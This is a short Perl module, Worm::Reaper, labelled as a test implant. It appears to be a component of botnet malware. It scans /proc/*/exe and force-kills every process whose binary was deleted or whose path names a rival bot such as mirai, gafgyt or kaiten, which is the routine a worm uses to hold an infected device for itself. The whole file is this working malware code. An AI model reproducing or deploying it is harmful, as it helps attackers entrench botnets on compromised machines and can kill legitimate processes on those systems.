# Worm::Reaper - test implant module: walks /proc/*/exe and kills processes
# whose program was deleted or is named like a rival bot. Never run.
package Worm::Reaper;
use strict;
use warnings;

my @rivals = qw(mirai gafgyt tsunami kaiten hajime);

sub reap {
	for my $link (glob "/proc/*/exe") {
		my ($pid) = $link =~ m{/proc/(\d+)/exe};
		next unless $pid && $pid != $$;
		my $exe = readlink($link) // next;
		my $rival = $exe =~ /\(deleted\)$/;
		for my $name (@rivals) {
			$rival = 1 if index($exe, $name) >= 0;
		}
		kill 9, $pid if $rival;
	}
}

1;
